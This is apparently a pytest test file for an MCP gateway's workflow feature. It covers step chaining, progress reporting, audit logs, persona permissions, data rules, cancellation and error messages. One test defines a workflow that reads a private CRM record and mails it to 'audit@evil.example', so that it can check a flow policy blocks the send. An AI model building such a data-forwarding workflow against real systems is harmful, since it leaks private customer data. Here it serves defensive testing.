"""Workflow tools through the gateway, as a client sees them, in both protocol eras (in memory).

Two upstreams (`first`, `second`, each the parity harness's `TestUpstream`, which records every call
that reaches it) and workflows whose steps call them: the catalog listing, a run whose later step
reads an earlier result, progress, the audit rows (one per step, linked to the workflow call), a
failing step, a step the persona may not call (refused before anything reaches an upstream), data
rules on a step, expression errors at run time, and a search-mode persona.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
import sqlite_utils
from click.testing import CliRunner
from mcp.server.mcpserver import Context, MCPServer
from mcp.shared.exceptions import MCPError
from pydantic import BaseModel

from conftest import write_registry
from mcpgw.assembly import reload_parts
from mcpgw.cli import cli
from mcpgw.security import pins
from parity import MODES, TestUpstream, gateway_client, registry, served
from test_flows import SERVERS as FLOW_SERVERS
from test_flows import World

pytestmark = pytest.mark.anyio

WORKFLOWS: dict[str, Any] = {
    "add_and_say": {
        "description": "Add two numbers, then say the sum.",
        "input": {"a": {"type": "integer"}, "b": {"type": "integer", "default": 2}},
        "steps": [
            {"call": "first__add", "name": "total", "args": {"a": "{{ input.a }}", "b": "{{ input.b }}"}},
            {"call": "second__echo", "args": {"message": "sum is {{ steps.total.result.sum }}"}},
        ],
    },
    "report": {
        "input": {"a": {"type": "integer"}},
        "steps": [
            {"call": "first__add", "args": {"a": "{{ input.a }}", "b": 1}},
            {"call": "second__echo", "args": {"message": "total: {{ steps[0].result }}"}},
        ],
        "output": {
            "total": "{{ steps[0].result.sum }}",
            "said": "{{ steps[1].result }}",
            "n": "{{ input.a }}",
        },
    },
    "breaks": {
        "input": {"reason": {"type": "string"}},
        "required": [],
        "steps": [
            {"call": "first__add", "args": {"a": 1, "b": 1}},
            {"call": "second__fail", "name": "boom", "args": {"reason": "{{ input.reason }}"}},
            {"call": "first__echo", "args": {"message": "never"}},
        ],
    },
    "misreads": {
        "steps": [
            {"call": "first__add", "args": {"a": 1, "b": 1}},
            {"call": "second__echo", "args": {"message": "{{ steps[0].result.total }}"}},
        ],
    },
}
PERSONAS: dict[str, Any] = {
    "limited": {"allow": ["workflows__*", "first__*"]},
    "no_workflows": {"deny": ["workflows__*"]},
    "finder": {"catalog": "search"},
    "reader": {"read_only": True},
}


def gateway_registry(**sections: Any) -> Any:
    """The two upstreams in the two eras: a workflow's steps cross them in either client era."""
    upstreams = {"first": {"era": "handshake"}, "second": {"era": "stateless"}}
    return registry(upstreams, workflows=WORKFLOWS, **sections)


def rows(db: Path) -> list[dict[str, Any]]:
    return list(sqlite_utils.Database(db).query("select * from events where kind = 'call' order by id"))


@pytest.mark.parametrize("mode", MODES)
async def test_a_workflow_runs_its_steps_with_progress_and_an_audit_row_each(
    mode: str, audit_db: Path
) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    progress: list[tuple[float, float | None, str | None]] = []

    async def on_progress(done: float, total: float | None, message: str | None) -> None:
        progress.append((done, total, message))

    async with (
        served(gateway_registry(), {"first": first, "second": second}, metrics=True) as gateway,
        gateway_client(gateway, mode=mode) as client,
    ):
        assert (gateway.upstreams["first"].era, gateway.upstreams["second"].era) == ("handshake", "stateless")
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        listed = tools["workflows__add_and_say"]
        assert listed.description == "Add two numbers, then say the sum."
        assert listed.input_schema["required"] == ["a"]  # `b` has a default
        assert listed.annotations is not None and listed.annotations.read_only_hint is True  # add, echo are
        result = await client.call_tool("workflows__add_and_say", {"a": 40}, progress_callback=on_progress)
        assert result.is_error is False
        assert [c.text for c in result.content] == ["sum is 42"]  # type: ignore[union-attr]
        report = await client.call_tool("workflows__report", {"a": 2})
        # `echo` answers structured content too (`{"result": ...}`): that is its `result`.
        assert report.structured_content == {"total": 3, "said": {"result": 'total: {"sum": 3}'}, "n": 2}
        assert gateway.metrics is not None
        counted = {"method": "tools/call", "persona": "", "outcome": "ok"}
        for server, tool, count in [("", "workflows__add_and_say", 1), ("first", "first__add", 2)]:
            labels = {**counted, "server": server, "tool": tool}
            assert gateway.metrics.registry.get_sample_value("mcpgw_requests_total", labels) == count

    # A whole-value expression keeps its JSON type (integers reach `add`); one inside text is text.
    assert first.calls[0] == {"name": "add", "arguments": {"a": 40, "b": 2}}
    assert second.calls[0] == {"name": "echo", "arguments": {"message": "sum is 42"}}
    assert second.calls[1] == {"name": "echo", "arguments": {"message": 'total: {"sum": 3}'}}
    assert progress == [
        (0.0, 2.0, "step 1 (total) of 2: first__add"),
        (1.0, 2.0, "step 2 of 2: second__echo"),
        (2.0, 2.0, "2 of 2 steps done"),
    ]
    calls = rows(audit_db)
    workflow = next(r for r in calls if r["name"] == "workflows__add_and_say")
    steps = [r for r in calls if r["parent"] == workflow["request_id"]]
    assert workflow["outcome"] == "ok" and workflow["parent"] is None
    assert json.loads(workflow["arguments"]) == {"a": 40}
    assert [(r["name"], r["server"], r["outcome"]) for r in steps] == [
        ("first__add", "first", "ok"),
        ("second__echo", "second", "ok"),
    ]
    assert json.loads(steps[0]["arguments"]) == {"a": 40, "b": 2}
    assert {(r["persona"], r["client"], r["protocol"]) for r in steps} == {
        (workflow["persona"], workflow["client"], workflow["protocol"])
    }
    config = write_registry(audit_db.parent / "servers.toml", {"first": {"command": "x"}})
    shown = CliRunner().invoke(cli, ["logs", "-c", str(config), "--parent", workflow["request_id"], "--json"])
    assert [json.loads(line)["name"] for line in shown.stdout.splitlines()] == ["first__add", "second__echo"]


@pytest.mark.parametrize("mode", MODES)
async def test_a_failing_step_stops_the_workflow_and_is_named(mode: str, audit_db: Path) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    async with (
        served(gateway_registry(), {"first": first, "second": second}) as gateway,
        gateway_client(gateway, mode=mode) as client,
    ):
        result = await client.call_tool("workflows__breaks", {"reason": "disk on fire"})
        assert result.is_error is True
        text = result.content[0].text  # type: ignore[union-attr]
        assert text.startswith("workflows__breaks stopped at step 2 (boom) (second__fail): ")
        assert text.endswith("Error executing tool fail")  # the upstream's own tool error
        # An optional input not given: the argument that is exactly it is left out.
        await client.call_tool("workflows__breaks", {})
    assert [c["name"] for c in first.calls] == ["add", "add"]  # step 3 never ran
    assert [c["arguments"] for c in second.calls] == [{"reason": "disk on fire"}, {}]
    calls = rows(audit_db)
    workflow = next(r for r in calls if r["name"] == "workflows__breaks")
    assert workflow["outcome"] == "error" and "step 2 (boom)" in workflow["error"]
    steps = [(r["name"], r["outcome"]) for r in calls if r["parent"] == workflow["request_id"]]
    assert steps == [("first__add", "ok"), ("second__fail", "error")]


@pytest.mark.parametrize("mode", MODES)
async def test_a_step_the_persona_may_not_call_refuses_the_workflow_before_any_step_runs(
    mode: str, audit_db: Path
) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    async with served(gateway_registry(personas=PERSONAS), {"first": first, "second": second}) as gateway:
        assert (
            "persona 'limited': workflow 'workflows__add_and_say' step 2 calls 'second__echo', which this "
            "persona cannot call (hidden or unknown): its calls will be refused"
        ) in gateway.check_personas()
        async with gateway_client(gateway, mode=mode, persona="limited") as client:
            assert "workflows__add_and_say" in {t.name for t in (await client.list_tools()).tools}
            result = await client.call_tool("workflows__add_and_say", {"a": 1})
        assert result.is_error is True
        assert result.content[0].text == (  # type: ignore[union-attr]
            "workflows__add_and_say: refused before any step ran: step 2 calls second__echo, "
            "which persona 'limited' cannot call"
        )
        async with gateway_client(gateway, mode=mode, persona="no_workflows") as client:
            assert not any(t.name.startswith("workflows__") for t in (await client.list_tools()).tools)
            with pytest.raises(MCPError, match="Unknown tool: workflows__add_and_say"):
                await client.call_tool("workflows__add_and_say", {"a": 1})
        async with gateway_client(gateway, mode=mode, persona="reader") as client:
            listed = {t.name for t in (await client.list_tools()).tools if t.name.startswith("workflows__")}
            assert "workflows__breaks" not in listed  # its `fail` step is not read-only
            assert {"workflows__add_and_say", "workflows__report", "workflows__misreads"} == listed
    assert first.calls == [] and second.calls == []  # the first step's upstream saw nothing
    calls = rows(audit_db)
    assert [(r["persona"], r["outcome"]) for r in calls] == [
        ("limited", "denied"),
        ("no_workflows", "denied"),
    ]


async def test_a_step_passes_the_data_rules_and_a_search_persona_runs_workflows(audit_db: Path) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    security = {
        "detectors": {"acme": "ACME-[0-9]+"},
        "rules": [
            {"detectors": ["acme"], "action": "block", "directions": ["arguments"], "tools": ["second__*"]}
        ],
    }
    workflows = {
        **WORKFLOWS,
        "relay": {
            "input": {"text": {"type": "string"}},
            "steps": [
                {"call": "first__echo", "args": {"message": "{{ input.text }}"}},
                {"call": "second__echo", "args": {"message": "{{ steps[0].result.result }}"}},
            ],
        },
    }
    config = registry({"first": {}, "second": {}}, workflows=workflows, personas=PERSONAS, security=security)
    async with served(config, {"first": first, "second": second}) as gateway:
        async with gateway_client(gateway) as client:
            result = await client.call_tool("workflows__relay", {"text": "ticket ACME-1234"})
            assert result.is_error is True
            assert result.content[0].text.startswith(  # type: ignore[union-attr]
                "workflows__relay stopped at step 2 (second__echo): "
            )
        async with gateway_client(gateway, persona="finder") as client:
            found = await client.call_tool("search_tools", {"query": "add two numbers then say the sum"})
            assert "workflows__add_and_say" in found.content[0].text  # type: ignore[union-attr]
            wrapped = {"name": "workflows__add_and_say", "arguments": {"a": 1, "b": 1}}
            result = await client.call_tool("call_tool", wrapped)
            assert [c.text for c in result.content] == ["sum is 2"]  # type: ignore[union-attr]
    assert [c["arguments"] for c in first.calls] == [{"message": "ticket ACME-1234"}, {"a": 1, "b": 1}]
    assert [c["arguments"] for c in second.calls] == [{"message": "sum is 2"}]  # the blocked one never came
    blocked = [r for r in rows(audit_db) if r["name"] == "second__echo"]
    assert blocked[0]["outcome"] == "blocked" and blocked[0]["parent"] is not None


@pytest.mark.parametrize("mode", MODES)
async def test_expression_and_input_errors_name_the_step_and_run_nothing_more(mode: str) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    async with (
        served(gateway_registry(), {"first": first, "second": second}) as gateway,
        gateway_client(gateway, mode=mode) as client,
    ):
        misread = await client.call_tool("workflows__misreads", {})
        wrong = await client.call_tool("workflows__add_and_say", {"a": "forty"})
        missing = await client.call_tool("workflows__add_and_say", {"b": 1})
    assert misread.is_error is True and wrong.is_error is True
    assert misread.content[0].text == (  # type: ignore[union-attr]
        "workflows__misreads stopped at step 2, before calling second__echo: {{ steps[0].result.total }}: "
        "steps[0].result has no field 'total' (its fields: sum)"
    )
    assert wrong.content[0].text == (  # type: ignore[union-attr]
        "workflows__add_and_say: input 'a': 'forty' is not of type 'integer'; no step ran"
    )
    assert missing.content[0].text == (  # type: ignore[union-attr]
        "workflows__add_and_say: input: 'a' is a required property; no step ran"
    )
    assert [c["name"] for c in first.calls] == ["add"] and second.calls == []


async def test_a_step_tool_withheld_by_the_pin_policy_refuses_the_workflow(tmp_path: Path) -> None:
    """The workflow's definition is the registry's (trusted); its steps' tools are pinned like any."""
    first, second = TestUpstream("first"), TestUpstream("second")
    registry_path = tmp_path / "servers.toml"
    registry_path.write_text('[gateway]\nmode = "production"\n')
    async with served(gateway_registry(), {"first": first, "second": second}, audit=None) as gateway:
        lists = {kind: list(items) for kind, items in gateway.upstreams["first"].lists.items()}
    pins.write_lock(tmp_path / "servers.lock", {"first": pins.snapshot(lists)})  # `second` is not pinned
    config = gateway_registry(gateway={"mode": "production"})
    upstreams = {"first": first, "second": second}
    async with served(config, upstreams, audit=None, registry_path=registry_path) as gateway:
        assert (
            "workflow 'workflows__add_and_say' step 2 calls 'second__echo', which the catalog does not "
            "offer now (unknown, withheld, or its server never started): its calls will be refused"
        ) in gateway.check_personas()
        async with gateway_client(gateway) as client:
            names = {tool.name for tool in (await client.list_tools()).tools}
            assert {"first__add", "workflows__add_and_say"} <= names and "second__echo" not in names
            result = await client.call_tool("workflows__add_and_say", {"a": 1})
    assert result.content[0].text == (  # type: ignore[union-attr]
        "workflows__add_and_say: refused before any step ran: step 2 calls second__echo, "
        "which this gateway cannot call"
    )
    assert first.calls == [] and second.calls == []


async def test_a_reload_that_adds_a_workflow_is_announced_and_listed() -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    bare = registry({"first": {}, "second": {}})
    announced = anyio.Event()

    async def on_message(message: Any) -> None:
        if getattr(message, "method", None) == "notifications/tools/list_changed":
            announced.set()

    async with (
        served(bare, {"first": first, "second": second}, audit=None) as gateway,
        gateway_client(gateway, mode="legacy", message_handler=on_message) as client,
    ):
        assert not [t for t in (await client.list_tools()).tools if t.name.startswith("workflows__")]
        await gateway.reconfigure(reload_parts(gateway_registry(), registry_path=None, running=gateway))
        with anyio.fail_after(30):  # a hang guard: the announcement is sent before reconfigure returns
            await announced.wait()
        names = {tool.name for tool in (await client.list_tools()).tools}
        assert {f"workflows__{name}" for name in WORKFLOWS} <= names
        result = await client.call_tool("workflows__add_and_say", {"a": 1, "b": 1})
        assert [c.text for c in result.content] == ["sum is 2"]  # type: ignore[union-attr]


class Answer(BaseModel):
    ok: bool


def asking_upstream() -> MCPServer:
    """A handshake-era server whose tool asks the user (elicitation) before it answers."""
    server = MCPServer("asking")

    @server.tool()
    async def confirm(question: str, ctx: Context) -> str:
        """Ask the user to confirm."""
        answer = await ctx.elicit(question, Answer)
        return f"{answer.action}: {answer.data.ok if answer.data is not None else '-'}"

    return server


@pytest.mark.parametrize("mode", MODES)
async def test_a_step_that_asks_the_user(mode: str) -> None:
    """A handshake-era caller is asked on its own channel; a 2026-07-28 one could only answer by retrying
    the whole workflow, so the step's upstream hears that this client cannot answer, and the step fails."""
    asked: list[str] = []

    async def on_elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"ok": True})

    workflows = {"ask": {"steps": [{"call": "asking__confirm", "args": {"question": "Label it?"}}]}}
    config = registry({"asking": {"era": "handshake"}}, workflows=workflows)
    async with (
        served(config, {"asking": asking_upstream()}, audit=None) as gateway,
        gateway_client(gateway, mode=mode, elicitation_callback=on_elicit) as client,
    ):
        result = await client.call_tool("workflows__ask", {})
    text = result.content[0].text  # type: ignore[union-attr]
    if mode == "legacy":
        assert (result.is_error, text, asked) == (False, "accept: True", ["Label it?"])
    else:
        assert result.is_error is True and asked == []
        assert text == (
            "workflows__ask stopped at step 1 (asking__confirm): upstream 'asking' asked the user for input "
            "(elicitation), and this client cannot answer elicitation requests"
        )


@pytest.mark.parametrize("mode", MODES)
async def test_a_cancelled_workflow_cancels_its_running_step_and_runs_no_more(
    mode: str, audit_db: Path
) -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    workflows = {
        "waits": {
            "steps": [
                {"call": "first__sleep", "args": {"seconds": 600}},
                {"call": "second__echo", "args": {"message": "late"}},
            ]
        }
    }
    config = registry({"first": {}, "second": {}}, workflows=workflows)
    async with (
        served(config, {"first": first, "second": second}) as gateway,
        gateway_client(gateway, mode=mode) as client,
    ):
        async with anyio.create_task_group() as tg:
            tg.start_soon(client.call_tool, "workflows__waits", {})
            with anyio.fail_after(30):  # hang guards, not speed limits
                while not first.calls:
                    await anyio.sleep(0.01)
            tg.cancel_scope.cancel()
        with anyio.fail_after(30):
            await first.cancelled.wait()
    assert second.calls == []
    assert [(r["name"], r["outcome"]) for r in rows(audit_db)] == [
        ("first__sleep", "cancelled"),
        ("workflows__waits", "cancelled"),
    ]


@pytest.mark.parametrize("mode", MODES)
async def test_a_workflow_cannot_launder_private_data_past_the_flow_policies(mode: str) -> None:
    """Its steps are the caller's session's steps: a send of what a private read returned is refused."""
    world = World()
    workflows = {
        "forward_record": {
            "input": {"to": {"type": "string"}},
            "steps": [
                {"call": "crm__customer", "args": {"customer_id": "42"}},
                {
                    "call": "mail__send",
                    "args": {"to": "{{ input.to }}", "body": "{{ steps[0].result.result }}"},
                },
            ],
        }
    }
    security = {"flows": {"untrusted_egress": "allow"}}
    config = registry(FLOW_SERVERS, workflows=workflows, security=security)
    async with (
        served(config, world.servers, audit=None) as gateway,
        gateway_client(gateway, mode=mode) as client,
    ):
        meta = {"sessionId": "agent-1"} if mode == "auto" else None
        result = await client.call_tool("workflows__forward_record", {"to": "audit@evil.example"}, meta=meta)
    assert result.is_error is True
    assert result.content[0].text.startswith(  # type: ignore[union-attr]
        "workflows__forward_record stopped at step 2 (mail__send): refused by flow policy private-data-egress"
    )
    assert world.sent() == [] and [name for name, _ in world.calls] == ["crm.customer"]


async def test_a_server_tool_with_a_workflows_name_keeps_it_and_the_workflow_is_reported() -> None:
    first, second = TestUpstream("first"), TestUpstream("second")
    workflows = {"say": {"steps": [{"call": "first__echo", "args": {"message": "from the workflow"}}]}}
    config = registry({"first": {}, "second": {"aliases": {"echo": "workflows__say"}}}, workflows=workflows)
    async with served(config, {"first": first, "second": second}, audit=None) as gateway:
        assert (
            "workflow 'workflows__say' is not listed: a server's tool has that name (give the server a "
            "namespace, or the workflow another name)"
        ) in gateway.check_personas()
        async with gateway_client(gateway) as client:
            assert [t.name for t in (await client.list_tools()).tools].count("workflows__say") == 1
            await client.call_tool("workflows__say", {"message": "from the client"})
    assert first.calls == [] and second.calls == [
        {"name": "echo", "arguments": {"message": "from the client"}}
    ]
